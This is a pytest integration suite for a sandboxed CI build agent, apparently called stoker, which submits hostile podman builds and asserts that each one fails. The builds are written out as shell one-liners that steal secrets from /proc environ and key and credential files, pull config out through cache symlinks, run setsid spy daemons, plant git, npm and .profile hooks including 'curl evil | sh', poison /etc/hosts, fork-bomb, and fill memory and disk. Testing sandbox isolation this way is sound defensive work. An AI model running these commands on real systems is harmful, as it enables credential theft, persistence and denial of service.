"""Hostile builds against a sandboxed node, end to end: one deploy-like loopback fleet (a coordinator with
TLS and tokens, one agent over mutual TLS whose builds run in real podman), and one test per attack a
pull request's build could try on a warm node (issue 15). Every build is submitted through the
coordinator's gRPC API as CI would; each attack must fail, as seen from inside the build (not found,
permission denied, the value absent) and from outside it (the store's, the blob directory's and the other
workspace's bytes unchanged, no process left), and the next build on the same node must run clean.

The agent holds what an attacker wants: a secret in its environment (``AWS_SECRET_ACCESS_KEY``, as for
an S3 blob store), its mTLS client key, its config file and a registry credential file in its config
directory, a cache store with a ready tree, and a blob directory. Builds are busybox one-liners in the
image of tests/helpers/sandbox.py. No mocks: real processes, real gRPC, real podman.
"""

from __future__ import annotations

import base64
import json
import os
import secrets
import shutil
import socket
import tempfile
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field, replace
from pathlib import Path

import pytest

from stoker.agent.cache.blobs import encode_key
from stoker.agent.config import PodmanSettings
from stoker.demo import local_fleet
from stoker.v1 import build_pb2, build_pb2_grpc, common_pb2
from tests.helpers.hostile import TreeState, listing
from tests.helpers.net import free_port
from tests.helpers.pki import make_pki, secure_coordinator, tls_channel, wait_nodes
from tests.helpers.sandbox import (
    OutputLines,
    containers,
    host_addresses,
    host_processes_of_uids,
    host_processes_with,
    http_server,
    reset_storage,
)

pytestmark = [pytest.mark.hostile, pytest.mark.integration]

NODE = "n1"
UID_COUNT = 65536
DEPS_KEY = "web-deps-1"
SUCCEEDED = build_pb2.BUILD_STATE_SUCCEEDED
PRUNE = r"\( -path /proc -o -path /sys \) -prune -o"
"""find(1) arguments that keep a search of the whole visible file system out of /proc and /sys."""


@dataclass
class Build(OutputLines):
    build_id: str
    state: int
    exit_code: int
    message: str
    node: str
    warmth: int
    lines: list[tuple[str, bool]] = field(default_factory=list)

    @property
    def succeeded(self) -> bool:
        return self.state == SUCCEEDED and self.exit_code == 0

    def __str__(self) -> str:
        state = build_pb2.BuildState.Name(self.state)
        head = f"build {self.build_id} on {self.node}: {state}, exit {self.exit_code} ({self.message})"
        return f"{head}\n{self.text[-3000:]}"


@dataclass
class Node:
    """The fleet and everything of the node's an attacker wants."""

    coordinator: local_fleet.Process
    agent: local_fleet.Process
    pki: Path
    ci_token: str
    config: Path
    """The agent's configuration directory: its mTLS key and certificate, agent.toml, auth.json."""
    cache: Path
    work: Path
    blobs: Path
    podman: Path
    uid_base: int
    env_secret: str
    """The value of AWS_SECRET_ACCESS_KEY in the agent's environment."""
    registry_secret: str
    """The password in the agent's registry credentials (auth.json)."""
    config_state: TreeState | None = None
    deps: str = ""
    """What the seeding build printed of the cached tree (the reference for every later restore)."""

    def submit(
        self,
        script: str,
        *,
        key: str = "",
        paths: tuple[str, ...] = (),
        env: dict[str, str] | None = None,
        limits: common_pb2.BuildLimits | None = None,
        timeout_s: float = 60.0,
        on_line: Callable[[str, str], None] | None = None,
    ) -> Build:
        """Submit ``sh -c script`` as CI would (TLS, a ci token) and follow it to its end. ``on_line``
        gets (build id, text) of each output line as it comes."""
        spec = common_pb2.BuildSpec(
            workspace="web",
            command=["sh", "-c", script],
            env=env or {},
            timeout_s=timeout_s,
            cache=common_pb2.CacheSpec(key=key, paths=list(paths)),
            limits=limits,
        )
        with tls_channel(self.coordinator.address, self.pki, self.ci_token) as channel:
            stub = build_pb2_grpc.BuildsStub(channel)
            build = Build("", 0, 0, "", "", 0)
            for event in stub.SubmitBuild(build_pb2.SubmitBuildRequest(spec=spec), timeout=timeout_s + 120):
                build.build_id = event.build_id
                kind = event.WhichOneof("kind")
                if kind == "log":
                    stderr = event.log.stream == build_pb2.LogLine.STREAM_STDERR
                    build.lines.append((event.log.text, stderr))
                    if on_line is not None:
                        on_line(event.build_id, event.log.text)
                elif kind == "finished":
                    f = event.finished
                    build.state, build.exit_code, build.message = f.state, f.exit_code, f.message
                    build.node, build.warmth = f.node, f.cache.warmth
        assert build.node == NODE, build
        return build

    def leftovers(self) -> str:
        """What a finished build may not leave: containers in the node's podman storage, host processes
        under the builds' uid range."""
        left = containers(_podman_settings(self.podman))
        procs = host_processes_of_uids(self.uid_base, UID_COUNT)
        return f"containers {left}, processes {procs}" if left or procs else ""

    def assert_next_build_runs_clean(self, env: dict[str, str] | None = None, also: str = "") -> Build:
        """The build after an attack: it succeeds on the same node, in its own user namespace, with an
        empty HOME and /tmp, an empty workspace, nothing running but itself; nothing is left after it.
        ``also``: more shell run before the checks (its output is the caller's to check)."""
        assert not self.leftovers(), self.leftovers()
        probe = self.submit(also + PROBE, env=env)
        assert probe.succeeded, probe
        out = probe.stdout.splitlines()
        assert out[-1] == "probe-done", probe
        assert f"uid_map 0 {self.uid_base} {UID_COUNT}" in _squeeze(probe.stdout), probe
        assert not [ln for ln in out if ln.startswith(("LEFT ", "WS "))], probe
        running = {ln.split(" ", 1)[1] for ln in out if ln.startswith("PROC ")}
        assert running and running <= PROBE_PROCESSES, running
        assert not self.leftovers(), self.leftovers()
        return probe


PROBE = r"""
echo "uid_map $(cat /proc/self/uid_map)"
for f in "$HOME"/* "$HOME"/.[!.]* /tmp/* /tmp/.[!.]* /workspace/* /workspace/.[!.]*; do
  if [ -e "$f" ] || [ -L "$f" ]; then echo "LEFT $f"; fi
done
for p in /proc/[0-9]*; do c=$(cat $p/comm 2>/dev/null) && echo "PROC $c"; done
echo probe-done
"""
PROBE_PROCESSES = {"podman-init", "sh", "cat"}
"""What may run in the probe: podman's init (catatonit, named podman-init), its shell and subshells, cat."""


def _squeeze(text: str) -> str:
    return " ".join(text.split())


def _podman_settings(directory: Path) -> PodmanSettings:
    return PodmanSettings(dir=str(directory))


def _agent_config(config: Path, pki: Path, registry: str, registry_secret: str) -> Path:
    """The agent's configuration directory as a deployment has it: key, certificates, config, auth."""
    config.mkdir(parents=True)
    for name in ("ca.pem", f"{NODE}.pem", f"{NODE}.key"):
        shutil.copy(pki / name, config / name)
    os.chmod(config / f"{NODE}.key", 0o600)
    auth = base64.b64encode(f"stoker:{registry_secret}".encode()).decode()
    (config / "auth.json").write_text(json.dumps({"auths": {registry: {"auth": auth}}}))
    os.chmod(config / "auth.json", 0o600)
    path = config / "agent.toml"
    path.write_text(
        "[coordinator]\n"
        f'tls_ca = "{config / "ca.pem"}"\n'
        f'tls_cert = "{config / f"{NODE}.pem"}"\n'
        f'tls_key = "{config / f"{NODE}.key"}"\n'
        "[podman]\n"
        f'auth_file = "{config / "auth.json"}"\n'
    )
    return path


@pytest.fixture(scope="module")
def node(podman_settings, sandbox_image, local_registry, tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile-fleet")
    pki = root / "pki"
    tokens = make_pki(pki, (NODE,), (("ci", "ci"), ("ops", "operator")))
    registry_secret = f"registry-pass-{secrets.token_hex(8)}"
    config_file = _agent_config(root / "etc-stoker", pki, local_registry, registry_secret)
    podman_dir = Path(tempfile.mkdtemp(prefix="stoker-hf-"))  # podman refuses a long run directory
    uid_base = 3_000_000 + (os.getpid() % 500) * UID_COUNT  # a range no other test's builds use
    env_secret = f"aws-secret-{secrets.token_hex(12)}"
    agent_port = free_port()
    coordinator = secure_coordinator(root, pki, agent_port)
    agent = None
    try:
        agent = local_fleet.start_agent(
            root,
            NODE,
            f"127.0.0.1:{agent_port}",
            slots=2,
            blobs=root / "blobs",
            extra=["--config", str(config_file)],
            env={
                "STOKER_AGENT_BUILD_EXECUTOR": "podman",
                "STOKER_AGENT_BUILD_DEFAULT_IMAGE": sandbox_image,
                "STOKER_AGENT_BUILD_MEMORY_BYTES": str(256 * 1024**2),
                "STOKER_AGENT_BUILD_PIDS": "256",
                "STOKER_AGENT_PODMAN_DIR": str(podman_dir),
                "STOKER_AGENT_PODMAN_INSECURE_REGISTRIES": local_registry,
                "STOKER_AGENT_PODMAN_UID_BASE": str(uid_base),
                "STOKER_AGENT_PODMAN_KILL_GRACE_S": "1",
                "AWS_ACCESS_KEY_ID": "AKIAHOSTILETEST",
                "AWS_SECRET_ACCESS_KEY": env_secret,
            },
            timeout=60,
        )
        wait_nodes(coordinator.address, pki, tokens["ops"], [NODE], timeout=60)
        config_state = TreeState.of(config_file.parent)
        n = Node(
            coordinator=coordinator,
            agent=agent,
            pki=pki,
            ci_token=tokens["ci"],
            config=config_file.parent,
            cache=root / NODE / "cache",
            work=root / NODE / "work",
            blobs=root / "blobs",
            podman=podman_dir,
            uid_base=uid_base,
            env_secret=env_secret,
            registry_secret=registry_secret,
            config_state=config_state,
        )
        seed = n.submit(
            "mkdir -p deps/sub && echo original > deps/a.txt && seq 1 20000 > deps/sub/b.txt && " + SHOW_DEPS,
            key=DEPS_KEY,
            paths=("deps",),
        )
        assert seed.succeeded, seed
        n.deps = deps_seen(seed)
        wait_for_ready_tree(n)
        yield n
    finally:
        if agent is not None:
            agent.stop()
        coordinator.kill()
        reset_storage(replace(podman_settings, dir=str(podman_dir)))


SHOW_DEPS = "cat deps/a.txt; sha256sum deps/sub/b.txt; ls -lnR deps | grep -c ."
"""The cached tree as a build sees it: one file's text, the other's hash, the number of listing lines."""


def deps_seen(build: Build) -> str:
    """What :data:`SHOW_DEPS` printed (without the agent's own ``stoker:`` lines)."""
    return "\n".join(ln for ln in build.stdout.splitlines() if not ln.startswith("stoker: "))


def wait_for_ready_tree(node: Node, timeout: float = 30.0) -> None:
    """Ready trees are made in the background after a restore or save: wait for one to be published."""
    deadline = time.monotonic() + timeout
    while not list((node.cache / "trees").glob("*.json")):
        assert time.monotonic() < deadline, f"no ready tree after {timeout} s: {listing(node.cache)}"
        time.sleep(0.1)


def store_state(node: Node) -> tuple[TreeState, TreeState, set[str]]:
    """What a build may never change in the store: its frames and manifests (immutable once written) and
    which entries it holds (their records' last-use times move with every restore)."""
    return (
        TreeState.of(node.cache / "frames"),
        TreeState.of(node.cache / "manifests"),
        listing(node.cache / "entries"),
    )


def assert_store_unchanged(node: Node, before: tuple[TreeState, TreeState, set[str]]) -> None:
    frames, manifests, entries = before
    assert frames.unchanged(), frames.diff()
    assert manifests.unchanged(), manifests.diff()
    assert listing(node.cache / "entries") == entries


# -- the agent's secrets ---------------------------------------------------------------------------
def test_the_agents_environment_cannot_be_read(node):
    agent_environ = Path(f"/proc/{node.agent.popen.pid}/environ").read_bytes()
    assert node.env_secret.encode() in agent_environ  # the control: the agent holds the secret
    script = (
        "echo OWN $BUILD_OWN; for p in /proc/[0-9]* /proc/1/root/proc/[0-9]*; do "
        "tr '\\0' '\\n' < $p/environ; done; env; "
        f"cat /proc/{node.agent.popen.pid}/environ /proc/1/root/proc/{node.agent.popen.pid}/environ; "
        f"cat {node.podman}/jobs/*.env; grep -r {node.env_secret[:14]} / --exclude-dir=sys 2>/dev/null; "
        "echo done"
    )
    attack = node.submit(script, env={"BUILD_OWN": "mine"})
    assert attack.succeeded, attack
    assert "OWN mine" in attack.stdout and "BUILD_OWN=mine" in attack.stdout  # the control: environs read
    assert node.env_secret not in attack.text and "AKIAHOSTILETEST" not in attack.text, attack
    assert "AWS_" not in attack.text, attack
    node.assert_next_build_runs_clean()


def test_the_agents_key_and_config_cannot_be_read(node):
    """Directly (the paths are no secret: a deployment's are in its manifests) and by searching the whole
    visible file system; then through the agent, which reads a build's workspace as root on the host to
    save it: cache paths that are, hold, or sit below symlinks to the config directory, absolute and
    relative (resolved on the host, a relative one leads out of the workspace). Each save is refused,
    leaving no entry, or keeps the symlinks as symlinks: a later restore yields no secret."""
    key_body = (node.config / f"{NODE}.key").read_text().splitlines()[1]
    cfg = node.config
    script = (
        f"cat {cfg}/{NODE}.key {cfg}/agent.toml {cfg}/auth.json {node.pki}/ca.key; ls {cfg} {cfg.parent}; "
        "ls /var/run/secrets/kubernetes.io/serviceaccount; "
        f"find / {PRUNE} \\( -name '*.key' -o -name '*.toml' -o -name auth.json -o -name '*.pem' \\) -print; "
        f"find / {PRUNE} -type f -print | xargs grep -l 'PRIVATE KEY' 2>/dev/null; echo done"
    )
    attack = node.submit(script)
    assert attack.succeeded and attack.stdout.splitlines()[-1] == "done", attack
    assert attack.stderr.count("No such file") >= 6, attack  # the control: the paths were tried
    for secret in (key_body, node.registry_secret, "PRIVATE KEY", "auth_file", "tls_key"):
        assert secret not in attack.text, (secret, attack)

    up = os.path.relpath(cfg, node.work / "workspace")  # from a workspace's root to the config directory
    vectors = {
        "parent": (f"ln -s {cfg} loot", ("loot/auth.json",)),
        "parent-relative": (f"ln -s {up} loot", ("loot/auth.json",)),
        "itself": (f"ln -s {cfg} deps", ("deps",)),
        "inside": (f"mkdir deps && ln -s {cfg}/{NODE}.key deps/key && ln -s {cfg} deps/etc", ("deps",)),
        "inside-relative": (
            f"mkdir deps && ln -s ../{up}/{NODE}.key deps/key && ln -s ../{up} deps/e",
            ("deps",),
        ),
    }
    for name, (plant, paths) in vectors.items():
        key = f"steal-{name}"
        save = node.submit(plant, key=key, paths=paths)
        assert save.succeeded, save
        if "cache save failed" in save.message:
            assert not (node.blobs / "keys" / encode_key(key)).exists(), save
            continue
        loot = node.submit(
            'find . | while read f; do echo "$f"; cat "$f" 2>&1; done; echo done', key=key, paths=paths
        )
        assert loot.warmth == common_pb2.WARMTH_WARM, (save, loot)  # the control: the entry was restored
        for secret in (key_body, node.registry_secret, "PRIVATE KEY", "tls_key"):
            assert secret not in loot.text, (name, secret, loot)
    node.assert_next_build_runs_clean()


# -- the node's cache ------------------------------------------------------------------------------
def test_the_store_cannot_be_listed_or_changed_and_a_restored_tree_is_the_builds_own(node):
    """The store is not mounted: its ready trees, frames and records are out of sight. What a warm
    restore hands a build (renamed out of a ready tree) is the build's own: editing it in place changes
    nothing the next build of that key gets."""
    wait_for_ready_tree(node)
    before = store_state(node)
    c = node.cache
    script = (
        f"ls -la {c} {c}/trees {c}/frames {c}/entries; echo evil > {c}/frames/x; touch {c}/entries/x; "
        f"rm -rf {c}/trees; find / {PRUNE} \\( -name frames -o -name entries -o -name trees \\) -print; "
        "sed 's/^/MOUNT /' /proc/self/mountinfo; "
        # The restored tree: overwrite, append, relink, chmod; nothing of it may reach the store.
        "echo poisoned > deps/a.txt; echo more >> deps/sub/b.txt; ln -f deps/a.txt deps/sub/b2.txt; "
        "chmod -R 777 deps; " + SHOW_DEPS + "; echo done"
    )
    attack = node.submit(script, key=DEPS_KEY, paths=("deps",))
    assert attack.succeeded, attack
    assert attack.warmth == common_pb2.WARMTH_WARM, attack  # the control: it got the store's tree
    assert "poisoned" in attack.stdout  # the control: it could edit its copy
    assert attack.stderr.count("No such file") >= 4, attack
    assert str(c) not in attack.stdout, attack
    mounts = {ln.split()[5] for ln in attack.stdout.splitlines() if ln.startswith("MOUNT ")}
    assert "/workspace" in mounts  # the control: the mount table was read
    mounts = {m for m in mounts if m != "/" and not m.startswith(("/proc", "/sys", "/dev"))}
    assert mounts <= {
        "/workspace",
        "/tmp",
        "/var/tmp",
        "/run",
        "/home/stoker",
        "/etc/hosts",
        "/etc/resolv.conf",
        "/etc/hostname",
        "/run/.containerenv",
        "/run/secrets",
        "/run/podman-init",
    }, mounts
    assert_store_unchanged(node, before)
    wait_for_ready_tree(node)  # the next restore comes from a ready tree again, made after the attack
    after = node.assert_next_build_runs_clean()
    again = node.submit(SHOW_DEPS, key=DEPS_KEY, paths=("deps",))
    assert again.succeeded and again.warmth == common_pb2.WARMTH_WARM, again
    assert deps_seen(again) == node.deps, (again.stdout, node.deps)
    assert after.succeeded
    assert_store_unchanged(node, before)


def test_the_blob_directory_cannot_be_written(node):
    before = TreeState.of(node.blobs)
    assert listing(node.blobs / "keys")  # the control: the seeding build's save is there
    b = node.blobs
    script = (
        f"ls -la {b} {b}/keys; for d in keys manifests packs; do echo evil > {b}/$d/evil; done; "
        f'mkdir -p {b}/keys && echo \'{{"manifest": "x"}}\' > {b}/keys/$(ls {b}/keys | head -1); '
        f"find / {PRUNE} \\( -name keys -o -name manifests -o -name packs \\) -print; echo done"
    )
    attack = node.submit(script)
    assert attack.succeeded and attack.stdout.splitlines()[-1] == "done", attack
    assert "No such file" in attack.stderr, attack
    assert before.unchanged(), before.diff()
    node.assert_next_build_runs_clean()
    again = node.submit(SHOW_DEPS, key=DEPS_KEY, paths=("deps",))
    assert again.succeeded and deps_seen(again) == node.deps, again


# -- other builds ----------------------------------------------------------------------------------
def test_another_builds_workspace_cannot_be_read_or_written(node):
    """A victim build holds a secret in its environment and its workspace's .env while an attacker runs
    beside it on the same node (two slots). The test lets the victim finish once the attacker has."""
    token = f"npm-{secrets.token_hex(10)}"
    victim_started = threading.Event()
    ids: list[str] = []
    result: list[Build] = []

    def seen(build_id: str, text: str) -> None:
        if text == "victim-ready":
            ids.append(build_id)
            victim_started.set()

    victim_script = (
        "printf 'NPM_TOKEN=%s\\n' \"$NPM_TOKEN\" > .env && echo victim-ready; i=0; "
        "while [ ! -e .go ] && [ $i -lt 600 ]; do sleep 0.1; i=$((i+1)); done; "
        "cat .env; ls -A | sed 's/^/WS /'"
    )
    victim = threading.Thread(
        target=lambda: result.append(node.submit(victim_script, env={"NPM_TOKEN": token}, on_line=seen))
    )
    victim.start()
    try:
        assert victim_started.wait(60), "the victim build did not start"
        ws = node.work / f"{ids[0]}-1"
        assert (ws / ".env").read_text() == f"NPM_TOKEN={token}\n"  # the control: the victim's own file
        env_before = TreeState.of(ws)
        script = (
            f"ls -la {node.work} {ws}; cat {ws}/.env; echo evil > {ws}/.env; echo x > {ws}/planted; "
            f"ln -s /workspace {ws}/link; find / {PRUNE} -name .env -print; "
            "for p in /proc/[0-9]*; do tr '\\0' '\\n' < $p/environ; done | grep NPM; echo done"
        )
        attack = node.submit(script)
        assert attack.stdout.splitlines()[-1] == "done", attack
        assert "No such file" in attack.stderr, attack
        assert token not in attack.text, attack
        assert env_before.unchanged(), env_before.diff()
        (ws / ".go").touch()
    finally:
        victim.join(120)
    [done] = result
    assert done.succeeded, done
    assert done.stdout.splitlines() == ["victim-ready", f"NPM_TOKEN={token}", "WS .env", "WS .go"], done
    node.assert_next_build_runs_clean()


def test_a_setsid_child_does_not_outlive_its_build(node):
    """Daemons that leave the build's session (setsid, a double fork, signals ignored) to spy on the next
    build's environment and /tmp die with the build's container; the next build sees none of them."""
    marker = f"spy{secrets.token_hex(6)}"
    spy = (
        "trap '' TERM HUP INT; while :; do for p in /proc/[0-9]*; do "
        "tr '\\0' '\\n' < \\$p/environ 2>/dev/null | grep NPM_TOKEN >> /tmp/stolen; done; sleep 0.2; done"
    )
    script = (
        f'setsid sh -c "{spy}; : {marker}" </dev/null >/dev/null 2>&1 & '
        f'(setsid sh -c "{spy}; : {marker}-2" </dev/null >/dev/null 2>&1 &); '
        f'nohup sh -c "{spy}; : {marker}-3" >/dev/null 2>&1 & sleep 0.5; '
        f"ps -o args | grep -c '[{marker[0]}]{marker[1:]}'"
    )
    attack = node.submit(script)
    assert attack.succeeded, attack
    assert int(attack.stdout.splitlines()[-1]) >= 3, attack  # the control: the daemons ran
    assert host_processes_with(marker) == [], node.leftovers()  # gone when the build is reported done
    token = f"npm-{secrets.token_hex(10)}"
    victim = node.assert_next_build_runs_clean(
        env={"NPM_TOKEN": token}, also="cat /tmp/stolen 2>&1; ps -o args | grep -c '[s]py' ; "
    )
    assert victim.stdout.splitlines()[1] == "0", victim
    assert host_processes_with(marker) == []


def test_a_file_planted_in_home_or_the_image_is_gone_for_the_next_build(node):
    """HOME dotfiles that run code in the next tenant's git or npm, files in /tmp, the image's own files,
    /etc/hosts, and podman's init (a host binary mounted into every build): none reaches the next build."""
    init = next(p for p in ("/usr/libexec/podman/catatonit", "/usr/bin/catatonit") if os.path.exists(p))
    init_state = TreeState.of(Path(init).parent)
    plant = (
        "printf '[core]\\n\\thooksPath = /tmp/hooks\\n' > $HOME/.gitconfig; "
        "echo 'node-options=--require /tmp/evil.js' > $HOME/.npmrc; echo 'curl evil | sh' > $HOME/.profile; "
        "mkdir -p /tmp/hooks && echo x > /tmp/hooks/pre-commit; echo x > /root/.ashrc; "
        "echo 'echo pwned' > /etc/profile; printf '#!/bin/sh\\necho pwned\\n' > /bin/git; chmod +x /bin/git; "
        "echo '203.0.113.9 registry.npmjs.org' >> /etc/hosts; "
        "echo pwned >> /run/podman-init || echo INIT-READONLY; ls -A $HOME /tmp"
    )
    attack = node.submit(plant)
    assert attack.succeeded, attack
    assert ".gitconfig" in attack.stdout and ".npmrc" in attack.stdout and "hooks" in attack.stdout
    # The image's files cannot even be written: the root file system is read-only (/root, /etc, /bin).
    assert attack.stderr.count("Read-only file system") >= 3, attack.stderr
    assert "INIT-READONLY" in attack.stdout, attack
    assert init_state.unchanged(), init_state.diff()
    check = (
        "for f in $HOME/.gitconfig $HOME/.npmrc $HOME/.profile /tmp/hooks /root/.ashrc /etc/profile "
        "/bin/git; do [ -e $f ] && echo FOUND $f; done; grep -h npmjs /etc/hosts /run/podman-init; "
    )
    clean = node.assert_next_build_runs_clean(also=check)
    assert "FOUND" not in clean.stdout and "pwned" not in clean.text and "npmjs" not in clean.text, clean


# -- limits ----------------------------------------------------------------------------------------
def test_a_fork_bomb_hits_its_pids_limit(node):
    started = time.monotonic()
    bomb = node.submit(
        "b() { b & b & wait; }; while :; do b; done",
        limits=common_pb2.BuildLimits(pids=64),
        timeout_s=8,
    )
    assert bomb.state == build_pb2.BUILD_STATE_FAILED, bomb
    assert "limit of 64 processes" in bomb.message, bomb
    assert time.monotonic() - started < 8 + 30, bomb
    node.assert_next_build_runs_clean()


def test_a_memory_hog_is_killed_at_its_memory_limit(node):
    """In the build's own memory, and in its tmpfs /tmp (which counts against the same limit). ``set -e``
    as in a CI script: the kernel kills either the shell collecting the string or its subshell (either
    happens), and a step killed fails the build, which then names the OOM."""
    limits = common_pb2.BuildLimits(memory_bytes=64 * 1024**2)
    for script in (
        "set -e; echo start; x=$(head -c 400000000 /dev/zero | tr '\\0' a); echo end",
        "set -e; echo start; dd if=/dev/zero of=/tmp/fill bs=1M count=400; echo end",
    ):
        hog = node.submit(script, limits=limits)
        assert hog.state == build_pb2.BUILD_STATE_FAILED, hog
        assert "out of memory" in hog.message, hog
        assert hog.stdout.splitlines()[0] == "start" and "end" not in hog.stdout, hog
        node.assert_next_build_runs_clean()


DISK_LIMIT = 32 * 1024**2


def test_a_disk_filler_in_its_workspace_is_stopped(node):
    """Failed at its disk limit, naming it; the store and the blob directory untouched; the workspace
    gone after it; the next build runs. The filler stops by itself at 256 MiB, should the limit fail. The
    limit is measured twice a second: a fast filler writes all 256 MiB before the first measurement
    (docs/findings/sandbox-fleet.md), so whether it was stopped midway is not asserted, only its end."""
    before, blobs, work_before = store_state(node), TreeState.of(node.blobs), listing(node.work)
    filler = node.submit(
        "for i in $(seq 1 64); do dd if=/dev/zero of=/workspace/f$i bs=1M count=4 2>/dev/null; done",
        limits=common_pb2.BuildLimits(disk_bytes=DISK_LIMIT),
        timeout_s=120,
    )
    assert filler.state == build_pb2.BUILD_STATE_FAILED, filler
    assert f"past its disk limit of {DISK_LIMIT} bytes" in filler.message, filler
    assert_store_unchanged(node, before)
    assert blobs.unchanged(), blobs.diff()
    wait_for_listing(node.work, work_before)
    node.assert_next_build_runs_clean()


def test_a_disk_filler_outside_its_workspace_is_stopped(node):
    """The container's own root file system lives in podman's storage on the node's SSD too: a filler
    writing there must meet a limit as well (or a read-only root). Bounded here at 128 MiB by its own
    ``count=`` (an unbounded one would fill the machine). What must hold either way is checked first:
    the store and blob directory untouched, the container's layer gone after it, the next build runs."""
    before, blobs = store_state(node), TreeState.of(node.blobs)
    layers = _bytes_under(node.podman / "storage")
    filler = node.submit(
        "dd if=/dev/zero of=/etc/fill bs=1M count=128 && du -sm /etc/fill",
        limits=common_pb2.BuildLimits(disk_bytes=DISK_LIMIT),
        timeout_s=120,
    )
    assert_store_unchanged(node, before)
    assert blobs.unchanged(), blobs.diff()
    assert _bytes_under(node.podman / "storage") < layers + 16 * 1024**2  # the container's layer is gone
    node.assert_next_build_runs_clean()
    stopped = "disk" in filler.message.lower() or "Read-only file system" in filler.stderr
    assert not filler.succeeded and stopped, f"128 MiB written past a {DISK_LIMIT}-byte disk limit: {filler}"


def wait_for_listing(directory: Path, names: set[str], timeout: float = 30.0) -> None:
    """The agent removes a workspace right after it reports the build: wait for that."""
    deadline = time.monotonic() + timeout
    while listing(directory) != names and time.monotonic() < deadline:
        time.sleep(0.1)
    assert listing(directory) == names


def _bytes_under(root: Path) -> int:
    total = 0
    for dirpath, _dirs, files in os.walk(root):
        for name in files:
            try:
                total += os.lstat(os.path.join(dirpath, name)).st_size
            except OSError:
                pass
    return total


# -- network ---------------------------------------------------------------------------------------
def test_no_build_reaches_this_machine_and_network_none_reaches_nothing(node):
    """On network ``default`` (the builds' own bridge) a build reaches none of this machine's addresses:
    not a server of the test listening on every address, nor the coordinator, the agent, the registry (the
    agent's iptables rules drop it all). With ``none`` it sees only its own loopback. The control: the same
    request from the machine itself is answered."""
    server, port = http_server()
    targets = [f"{h} {port}" for h in ("127.0.0.1", "10.89.0.1", *host_addresses())]
    targets += [
        node.coordinator.address.replace(":", " "),
        f"127.0.0.1 {node.agent.grpc_port}",
        f"127.0.0.1 {node.agent.metrics_port}",
    ]
    probes = "; ".join(
        f"printf 'GET / HTTP/1.0\\r\\n\\r\\n' | nc -w 2 {t} > /tmp/r 2>/dev/null && [ -s /tmp/r ] "
        f"&& echo REACHED {t.replace(' ', ':')} $(head -c 40 /tmp/r)"
        for t in targets
    )
    script = f"{probes}; cat /proc/net/dev; echo done"
    try:
        default = node.submit(script, limits=common_pb2.BuildLimits(network="default"))
        isolated = node.submit(script, limits=common_pb2.BuildLimits(network="none"))
        with socket.create_connection((host_addresses()[0], port), timeout=10) as conn:
            conn.sendall(b"GET / HTTP/1.0\r\n\r\n")
            answered = conn.recv(4096)
    finally:
        server.close()
    assert b"200 OK" in answered, answered  # the control
    assert default.succeeded and default.stdout.splitlines()[-1] == "done", default
    assert "REACHED" not in default.stdout and "eth0" in default.stdout, default
    assert isolated.succeeded and isolated.stdout.splitlines()[-1] == "done", isolated
    assert "REACHED" not in isolated.stdout, isolated
    lines = isolated.stdout.splitlines()
    interfaces = [ln.split(":")[0].strip() for ln in lines if ":" in ln and "|" not in ln]
    assert interfaces == ["lo"], isolated
    node.assert_next_build_runs_clean()


def test_the_agent_lived_through_it_all(node):
    """Last: the agent and the coordinator are still up, the agent logged no error of its own, and its
    configuration directory (key, certificates, config, credentials) is as it was before the first build."""
    assert node.agent.alive() and node.coordinator.alive()
    errors = [ln for ln in node.agent.log_path.read_text().splitlines() if " ERROR " in ln]
    assert not errors, errors
    assert node.config_state.unchanged(), node.config_state.diff()
